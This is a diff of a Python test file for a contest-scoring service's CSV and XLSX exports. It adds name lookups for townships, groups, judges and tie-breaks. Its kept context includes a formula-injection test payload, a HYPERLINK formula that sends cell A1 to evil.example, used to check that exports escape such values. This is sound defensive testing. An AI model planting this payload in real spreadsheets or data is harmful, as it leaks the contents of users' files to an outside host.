@@ -13,6 +13,7 @@ import openpyxl
 import pytest
 
 from services.gateway import exports
+from services.gateway.names import Names, of_contest
 
 PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
 PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
@@ -89,15 +90,15 @@ def read_csv(data: bytes) -> list[list[str]]:
 def test_a_name_or_a_criterion_that_looks_like_a_formula_is_text_in_the_csv(prefix):
     name = prefix + PAYLOAD
     export = export_with(name)
-    results = read_csv(exports.to_csv(exports.RESULT_HEADERS, exports.result_rows(export), CERTIFICATE))
+    results = read_csv(exports.to_csv(exports.RESULT_HEADERS, exports.result_rows(export, Names()), CERTIFICATE))
     assert results[1][4:6] == ["'" + name, "'" + name]  # 姓名, 乡镇
     assert results[1][7] == "-1.5"  # a negative number is not escaped
     assert results[2][4:6] == ["张三", "柏山镇"]
-    sheets = read_csv(exports.to_csv(exports.sheet_headers(export), exports.sheet_rows(export)))
+    sheets = read_csv(exports.to_csv(exports.sheet_headers(export), exports.sheet_rows(export, Names())))
     assert sheets[0][4] == "'" + name + "(满分30,权重1)"
     assert sheets[0][5] == "讲工作(满分40,权重1.5)"
     assert sheets[1][2] == "'" + name
-    calibration = read_csv(exports.to_csv(exports.CALIBRATION_HEADERS, exports.calibration_rows(CALIBRATION)))
+    calibration = read_csv(exports.to_csv(exports.CALIBRATION_HEADERS, exports.calibration_rows(CALIBRATION, Names())))
     assert calibration[1][3:7] == ["-22.7", "-4.54", "1.1056", "-0.1"]
     for table in (results, sheets):
         for cell in (cell for row in table for cell in row):
@@ -115,7 +116,7 @@ def is_number(text: str) -> bool:
 @pytest.mark.parametrize("prefix", [*PREFIXES, "#N/A"], ids=repr)
 def test_a_name_or_a_criterion_that_looks_like_a_formula_is_text_in_the_xlsx(prefix):
     name = prefix if prefix == "#N/A" else prefix + PAYLOAD
-    data = exports.to_xlsx(export_with(name), CERTIFICATE, CALIBRATION)
+    data = exports.to_xlsx(export_with(name), Names(), CERTIFICATE, CALIBRATION)
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         for member in archive.namelist():
             if member.startswith("xl/worksheets/"):
@@ -136,3 +137,29 @@ def test_a_name_or_a_criterion_that_looks_like_a_formula_is_text_in_the_xlsx(pre
     assert (sheets["G2"].value, sheets["G2"].data_type) == (65.75, "n")
     judges = book["评委校准"]
     assert [judges.cell(2, column).value for column in range(4, 8)] == [-22.7, -4.54, 1.1056, -0.1]
+
+
+def test_an_export_names_townships_groups_judges_sessions_and_tie_breaks_not_their_ids():
+    contest = {
+        "stages": [
+            {
+                "stage_id": "p",
+                "groups": [{"group_id": "g1", "name": "北片"}],
+                "criteria": [{"criterion_id": "work", "name": "讲工作"}],
+            }
+        ],
+        "judges": [{"judge_id": "J1", "name": "孙立新"}, {"judge_id": "J2", "name": "周晓燕"}],
+        "sessions": [{"session_id": "s1", "stage_id": "p", "group_id": "g1", "starts_at": "2026-12-05T09:00:00+08:00"}],
+    }
+    regions = [{"code": "boshan", "name": "柏山镇", "level": "township", "parent": "boai"}]
+    named = of_contest(contest, regions, "p")
+    export = export_with("王建国")
+    export["standings"][0].update(township="boshan", decided_by="criterion:work")
+    results = read_csv(exports.to_csv(exports.RESULT_HEADERS, exports.result_rows(export, named)))
+    assert results[1][5:7] == ["柏山镇", "北片"]
+    assert results[1][9:] == ["孙立新", "周晓燕", "评分项“讲工作”的平均分"]
+    sheets = read_csv(exports.to_csv(exports.sheet_headers(export), exports.sheet_rows(export, named)))
+    assert [sheets[1][0], sheets[1][3]] == ["北片 12月5日", "孙立新"]
+    calibration = read_csv(exports.to_csv(exports.CALIBRATION_HEADERS, exports.calibration_rows(CALIBRATION, named)))
+    assert calibration[1][:2] == ["全阶段", "孙立新"]
+    assert named.decided_by("lot") == "抽签" and named.group("g-unknown") == "g-unknown"
